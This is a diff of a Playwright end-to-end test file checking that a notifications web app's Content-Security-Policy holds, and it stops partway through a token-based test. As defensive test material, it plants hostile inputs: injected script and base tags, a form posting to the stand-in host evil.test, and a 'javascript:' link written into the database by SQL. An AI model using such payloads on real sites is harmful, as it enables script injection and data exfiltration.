@@ -1,63 +1,19 @@
-import { test as anonymous, type BrowserContext, type Page } from "@playwright/test";
+import { test as anonymous } from "@playwright/test";
 
 import { startApp } from "@/tests/support/app-server";
-
-import { environmentOfRun, expect, Inbox, test } from "./fixtures";
-
-/** What the browser refused on any page, and what any page complained of. Call it before the first page is opened. */
-async function watch(context: BrowserContext): Promise<string[]> {
-  const complaints: string[] = [];
-  await context.exposeFunction("tellViolation", (text: string) => complaints.push(text));
-  await context.addInitScript(() => {
-    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) => {
-      (globalThis as unknown as { tellViolation(text: string): void }).tellViolation(
-        `${effectiveDirective} refused ${blockedURI} ${sample}`,
-      );
-    });
-  });
-  const watchPage = (page: Page): void => {
-    page.on("console", (message) => {
-      // That a page is not there is what some are opened for.
-      if (message.type() === "error" && !/status of (404|500)/.test(message.text())) complaints.push(message.text());
-    });
-    page.on("pageerror", (error) => complaints.push(error.message));
-  };
-  for (const page of context.pages()) watchPage(page);
-  context.on("page", watchPage);
-  return complaints;
-}
+import { serverSettings } from "@/tests/support/e2e/environment";
+import { Inbox } from "@/tests/support/e2e/inbox";
+import { HOME } from "@/tests/support/e2e/pages";
+import { refusalsOf } from "@/tests/support/e2e/records";
+import { expect, test } from "@/tests/support/e2e/test";
 
 test.describe("under its Content-Security-Policy", () => {
-  for (const [scheme, language] of [
-    ["light", "en"],
-    ["dark", "de"],
-  ] as const)
-    test.describe(`in ${scheme} and ${language}`, () => {
-      test.use({ colorScheme: scheme, locale: language });
-
-      test("every page works, and nothing of it is refused", async ({ page, context, person }) => {
-        const complaints = await watch(context);
-        for (const path of ["/orders", "/orders/7", "/playground"]) {
-          await page.goto(path);
-          await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
-          await expect(page.locator("[data-connection=live]")).toBeVisible();
-        }
-        for (const path of ["/nothing", "/orders/nothing", "/%5Ben%5D"]) {
-          await page.goto(path);
-          await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
-        }
-        await person.notify("Hello", { link: "/orders/7" });
-        await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
-        expect(complaints).toEqual([]);
-      });
-    });
-
-  test("so do the panel with its lists, keys and settings, toasts, navigation and the account menu", async ({
+  test("nothing is refused in panel, settings, toasts, navigation and account menu", async ({
     page,
     context,
     person,
   }) => {
-    const complaints = await watch(context);
+    const complaints = await refusalsOf(context);
     await person.hasMany(150);
     const inbox = await Inbox.open(page, "/playground");
     await person.notify("A toast", { link: "/orders/7" });
@@ -70,8 +26,8 @@ test.describe("under its Content-Security-Policy", () => {
     await inbox.panel.getByRole("button", { name: "Settings" }).click();
     await page.keyboard.press("Escape");
     await page.keyboard.press("Escape");
-    await page.getByRole("link", { name: "Orders" }).first().click();
-    await expect(page).toHaveURL("/orders");
+    await page.getByRole("link", { name: HOME.name, exact: true }).first().click();
+    await expect(page).toHaveURL(HOME.path);
     await page.getByRole("button", { name: /account/i }).click();
     await page.getByText("Dark", { exact: true }).click();
     await expect(page.locator("html")).toHaveAttribute("data-theme", "dark");
@@ -79,15 +35,6 @@ test.describe("under its Content-Security-Policy", () => {
     await page.getByRole("link", { name: "Playground" }).first().click();
     await expect(page.getByText(/event: ?sync/)).toBeVisible();
     expect(complaints).toEqual([]);
-  });
-
-  test("progress bars have their widths without style attributes", async ({ page }) => {
-    for (const path of ["/orders", "/orders/7"])
-      expect(await (await page.context().request.get(path)).text()).not.toMatch(/ style=/);
-    await page.goto("/orders");
-    const widths = await page.locator("li svg[width$='%']").evaluateAll((bars) => bars.map((bar) => bar.clientWidth));
-    expect(widths.length).toBeGreaterThanOrEqual(5);
-    expect(Math.max(...widths)).toBeGreaterThan(2 * Math.min(...widths));
   });
 
   test("a script that got into a page does not run, in any form", async ({ page, context }) => {
@@ -100,12 +47,12 @@ test.describe("under its Content-Security-Policy", () => {
       <base href="https://evil.test/">
       <style>body { outline: 7px solid red }</style>
       <object data="/icon.svg"></object>`;
-    await page.route("**/orders", async (route) => {
+    await page.route(`**${HOME.path}`, async (route) => {
       const response = await route.fetch();
       await route.fulfill({ response, body: (await response.text()).replace("<main", `${html}<main`) });
     });
-    const complaints = await watch(context);
-    await page.goto("/orders");
+    const complaints = await refusalsOf(context);
+    await page.goto(HOME.path);
     await page.evaluate(() => {
       const leak = Object.assign(document.createElement("form"), { action: "https://evil.test/", method: "post" });
       document.body.append(leak);
@@ -126,11 +73,11 @@ test.describe("under its Content-Security-Policy", () => {
     expect(await page.evaluate(() => (globalThis as { ran?: string }).ran)).toBeUndefined();
     expect(await page.evaluate(() => document.baseURI)).not.toContain("evil");
     expect(await page.evaluate(() => getComputedStyle(document.body).outlineWidth)).not.toBe("7px");
-    expect(await page.evaluate(() => location.pathname)).toBe("/orders");
+    expect(await page.evaluate(() => location.pathname)).toBe(HOME.path);
   });
 
   test("a script for a link, be it in the database already, is never run", async ({ page, context, person }) => {
-    const complaints = await watch(context);
+    const complaints = await refusalsOf(context);
     await person.notify("Trap", { link: "/orders/7" });
     await person.sql`update notifications set link = 'javascript:globalThis.ran=1' where user_id = ${person.id}`;
     const inbox = await Inbox.open(page);
@@ -150,26 +97,17 @@ test.describe("under its Content-Security-Policy", () => {
   });
 });
 
-anonymous("the sign-in page works under its Content-Security-Policy", async ({ page, context }) => {
-  const complaints = await watch(context);
-  await page.goto("/sign-in");
-  await page.getByRole("button", { name: /Alan/ }).click();
-  await expect(new Inbox(page).bell).toBeVisible();
-  expect(complaints).toEqual([]);
-});
-
-anonymous("so does the page that stands in for all others when the layout fails", async ({ page, context }) => {
-  const { databaseUrl, producerKey } = environmentOfRun();
+anonymous("the page for a failed layout works under its Content-Security-Policy", async ({ page, context }) => {
+  const { AUTH_SECRET: _, DEMO: __, ...settings } = serverSettings();
   const app = await startApp({
-    DATABASE_URL: databaseUrl,
-    INTERNAL_API_KEYS: `suite:${producerKey}`,
+    ...settings,
     // Nobody listens there, so it cannot be said who is signed in.
     AUTH_JWKS_URL: "http://127.0.0.1:1/keys",
     AUTH_ISSUER: "https://id.example",
     AUTH_AUDIENCE: "notifications",
   });
   try {
-    const complaints = await watch(context);
+    const complaints = await refusalsOf(context);
     const [header, payload] = [
       { alg: "ES256", kid: "x" },
       { iss: "https://id.example", aud: "notifications", exp: Math.floor(Date.now() / 1000) + 300 },
